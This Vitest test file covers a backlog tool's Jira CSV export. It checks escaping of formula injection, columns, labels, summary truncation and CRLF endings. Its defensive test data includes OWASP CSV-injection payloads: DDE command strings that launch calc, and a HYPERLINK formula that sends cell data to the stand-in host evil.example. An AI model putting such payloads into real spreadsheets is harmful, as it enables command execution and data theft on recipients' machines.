import { describe, expect, test } from 'vitest';
import { backlogToJiraCsv, csvCell, jiraCsvFileName } from '../../src/lib/export/csv';
import { parseCsv } from '../../src/lib/import/backlog/csv-parse';
import { sampleWorkspace } from './support/workspaces';
import type { Workspace } from '../../src/lib/schema/workspace';

const rowsOf = (text: string) => {
  const result = parseCsv(text);
  if (!result.ok) throw new Error(result.error);
  return result.rows;
};

describe('CSV cells are safe against formula injection (OWASP)', () => {
  // The payloads from OWASP's "CSV Injection" page and its list of leading characters.
  test.each([
    ['=1+2', '"\'=1+2"'],
    ['=1+2";=1+2', '"\'=1+2"";=1+2"'],
    ['=1+2\'" ;,=1+2', '"\'=1+2\'"" ;,=1+2"'],
    ['=HYPERLINK("http://evil.example?x="&A1,"Click")', '"\'=HYPERLINK(""http://evil.example?x=""&A1,""Click"")"'],
    ["=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""],
    ["+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""],
    ["-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""],
    ['@SUM(1+1)*cmd|" /C calc"!A0', '"\'@SUM(1+1)*cmd|"" /C calc""!A0"'],
    ['\t=1+2', '"\'\t=1+2"'],
    ['\r=1+2', '"\'\r=1+2"'],
    ['\n=1+2', '"\'\n=1+2"'],
    ['＝1+2', '"\'＝1+2"'],
    ['＋1+2', '"\'＋1+2"'],
    ['－2+3', '"\'－2+3"'],
    ['＠SUM(1+1)', '"\'＠SUM(1+1)"'],
  ])('%j gets a leading quote and stays one cell', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
    expect(rowsOf(`${csvCell(value)},next`)).toEqual([[`'${value}`, 'next']]);
  });

  test('leaves ordinary text alone apart from quoting', () => {
    expect(csvCell('Split the "login" story, again')).toBe('"Split the ""login"" story, again"');
    expect(csvCell('a=b')).toBe('"a=b"');
    expect(csvCell('')).toBe('""');
  });
});

describe('Jira CSV export', () => {
  const ws = (): Workspace => {
    const base = sampleWorkspace();
    return {
      ...base,
      backlog: [
        ...base.backlog,
        {
          id: 'b-9',
          title: '=HYPERLINK("http://evil.example")',
          description: '@because\nsecond line, with comma',
          priority: 'wont',
          size: 'XL',
          goalId: null,
          existing: null,
        },
      ],
    };
  };

  test('has Summary, Description, Issue Type, Priority, one Labels column per label and Backlog order', () => {
    const rows = rowsOf(backlogToJiraCsv(ws()));
    expect(rows[0]).toEqual(['Summary', 'Description', 'Issue Type', 'Priority', 'Labels', 'Labels', 'Backlog order']);
  });

  test('exports new items by default, with MoSCoW and size labels and the goal in the description', () => {
    const rows = rowsOf(backlogToJiraCsv(ws()));
    expect(rows.slice(1)).toEqual([
      [
        'Write the sprint goal at planning',
        'Owner: Product Owner\nDue: Sprint 14\n\nGoal: Every sprint starts with a one-sentence sprint goal',
        'Story',
        'High',
        'moscow:must',
        'size:s',
        '01',
      ],
      [
        '\'=HYPERLINK("http://evil.example")',
        "'@because\nsecond line, with comma",
        'Story',
        'Lowest',
        'moscow:wont',
        'size:xl',
        '02',
      ],
    ]);
  });

  test('can include imported items, keeping their other labels', () => {
    const rows = rowsOf(backlogToJiraCsv(ws(), { includeExisting: true, issueType: 'Task' }));
    expect(rows[0]).toHaveLength(8);
    expect(rows[2]).toEqual([
      'Split the login story',
      'It has been carried over twice.\n\nGoal: No story larger than M enters a sprint',
      'Task',
      'Medium',
      'moscow:should',
      'size:m',
      'story',
      '02',
    ]);
    expect(rows[3]?.slice(3)).toEqual(['', '', '', '', '03']);
    // The agreed order survives as text that sorts like the positions.
    const order = rows.slice(1).map((row) => row.at(-1));
    expect(order).toEqual([...order].sort());
  });

  test('a summary is one line of at most 255 characters; the full title opens the description', () => {
    const base = ws();
    const long = 'x'.repeat(300);
    const rows = rowsOf(
      backlogToJiraCsv({
        ...base,
        backlog: [
          { ...base.backlog[0]!, id: 'l', title: long, goalId: null, description: 'Why.' },
          { ...base.backlog[0]!, id: 'm', title: 'First line\r\nsecond line', goalId: null, description: '' },
          { ...base.backlog[0]!, id: 'e', title: '🚀'.repeat(200), goalId: null, description: '' },
        ],
      }),
    );
    expect(rows[1]?.[0]).toBe(`${'x'.repeat(254)}…`);
    expect(rows[1]?.[1]).toBe(`Full title: ${long}\n\nWhy.`);
    expect(rows[2]?.slice(0, 2)).toEqual(['First line', 'Full title: First line\r\nsecond line']);
    expect(rows[3]?.[0]?.length).toBeLessThanOrEqual(255);
    expect(rows[3]?.[0]).toMatch(/^(?:🚀)+…$/u);
  });

  test('ends rows with CRLF and names the file after team and date', () => {
    expect(backlogToJiraCsv(ws()).endsWith('\r\n')).toBe(true);
    expect(jiraCsvFileName(ws(), new Date())).toBe('mentoring-backlog-team-rocket-2026-11-21.csv');
  });
});
